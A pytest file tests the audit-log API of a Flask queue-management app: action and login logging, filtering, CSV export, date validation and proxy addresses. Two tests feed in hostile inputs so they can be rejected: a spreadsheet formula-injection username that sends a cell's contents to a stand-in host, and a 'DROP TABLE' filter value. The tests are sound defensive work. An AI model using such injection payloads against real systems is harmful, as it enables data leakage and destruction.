"""The audit log: every action of a person (admin, manager, officer) and every login is
written with the change, with who, when and from where; a refused action leaves no entry;
admins and managers read it filtered, as JSON or CSV; devices' ticket issues are not in it."""

from __future__ import annotations

import csv
import io

from flask import Flask
from flask.testing import FlaskClient

from tests.conftest import Clock
from tests.factories import World
from tests.factories import issue
from tests.factories import post
from tests.test_api import check_error
from tests.test_sessions import log_in
from tests.test_sessions import page_csrf

DAY = {"from": "2026-03-02", "to": "2026-03-02"}


def _log(client: FlaskClient, world: World, **query: str) -> list[dict[str, object]]:
    answer = client.get("/api/v1/audit", query_string={**DAY, **query},
                        headers=world.headers("manager"))
    assert answer.status_code == 200, answer.get_json()
    rows: list[dict[str, object]] = answer.get_json()
    return rows


def test_actions_are_logged_with_who_and_where(client: FlaskClient, world: World) -> None:
    issue(client, world, "HT")  # a kiosk's tap: not an admin or officer action
    assert post(client, world, "admin", "/fields", {"code": "XD", "name": "Xây dựng"},
                ).status_code == 201
    post(client, world, "officer1", "/counters/1/open")
    post(client, world, "officer1", "/counters/1/call-next")
    check_error(post(client, world, "officer2", "/counters/1/open"), 409)  # refused: no entry
    check_error(post(client, world, "admin", "/users", {"username": "u1", "role": "officer",
                                                        "password": "short"}), 400)
    post(client, world, "admin", "/users", {"username": "u2", "role": "officer",
                                            "password": "mat-khau-dai"})
    rows = _log(client, world)
    actions = [(row["username"], row["action"]) for row in rows]
    assert actions == [("admin", "create_user"), ("officer1", "call_next"),
                       ("officer1", "open_counter"), ("admin", "create_field")]
    created = rows[3]
    assert created["detail"]["code"] == "XD" and created["address"] == "127.0.0.1"
    assert "password" not in rows[0]["detail"]  # never a secret
    assert rows[1]["target"] == "number=1"
    assert [row["action"] for row in _log(client, world, user="officer1")] == [
        "call_next", "open_counter"]
    assert [row["username"] for row in _log(client, world, action="create_field")] == ["admin"]
    check_error(client.get("/api/v1/audit", query_string=DAY, headers=world.headers("officer1")),
                403)


def test_logins_and_logouts(app: Flask, client: FlaskClient, world: World) -> None:
    log_in(client, password="sai")
    log_in(client, username="không-có-ai", password="sai")
    log_in(client)
    client.post("/counter/logout", data={"csrf": page_csrf(client)})
    actions = [(row["username"], row["action"]) for row in _log(client, world)]
    assert actions == [("officer1", "logout"), ("officer1", "login"),
                       ("không-có-ai", "login_failed"), ("officer1", "login_failed")]


def test_csv_export(client: FlaskClient, world: World, clock: Clock) -> None:
    post(client, world, "admin", "/fields", {"code": "XD", "name": "Xây dựng"})
    answer = client.get("/api/v1/audit", query_string={**DAY, "format": "csv"},
                        headers=world.headers("admin"))
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    assert "attachment" in answer.headers["Content-Disposition"]
    body = answer.get_data()
    assert body.startswith(b"\xef\xbb\xbf")  # Excel reads the Vietnamese right
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0][0] == "Thời điểm" and rows[1][1] == "admin" and rows[1][4] == "create_field"
    assert "Xây dựng" in rows[1][6]
    # the day before has nothing
    empty = client.get("/api/v1/audit", query_string={"from": "2026-03-01", "to": "2026-03-01"},
                       headers=world.headers("admin"))
    assert empty.get_json() == []


def test_odd_dates_are_refused(client: FlaskClient, world: World) -> None:
    for query in ({"from": "0001-01-01", "to": "0001-01-01"},
                  {"from": "9999-12-31", "to": "9999-12-31"},
                  {"from": "2026-03-02", "to": "2026-03-01"},
                  {"from": "2026-03-02", "to": "2026-03-02", "action": "DROP TABLE"}):
        check_error(client.get("/api/v1/audit", query_string=query,
                               headers=world.headers("admin")), 400, "invalid_parameters")


def test_csv_cells_never_become_formulas(client: FlaskClient, world: World) -> None:
    log_in(client, username='=HYPERLINK("http://x/?"&A1,"ok")', password="sai")
    answer = client.get("/api/v1/audit", query_string={**DAY, "format": "csv"},
                        headers=world.headers("admin"))
    rows = list(csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"))))
    assert rows[1][1].startswith("'=HYPERLINK") and rows[1][4] == "login_failed"


def test_behind_a_proxy_each_client_has_its_address(sqlite_url: str, clock: Clock) -> None:
    from tests.conftest import make_app
    from tests.factories import build_world

    for proxies, expected in ((0, "127.0.0.1"), (1, "203.0.113.7")):
        app = make_app(sqlite_url.replace(".sqlite", f"{proxies}.sqlite"), clock,
                       PROXY_FIX=proxies)
        try:
            world = build_world(app, clock.now)
            client = app.test_client()
            forwarded = {**world.headers("admin"), "X-Forwarded-For": "203.0.113.7"}
            assert client.post("/api/v1/fields", json={"code": "XD", "name": "Xây dựng"},
                               headers=forwarded).status_code == 201
            log = client.get("/api/v1/audit", query_string=DAY, headers=world.headers("admin"))
            assert log.get_json()[0]["address"] == expected, proxies
        finally:
            app.extensions["hall.engine"].dispose()
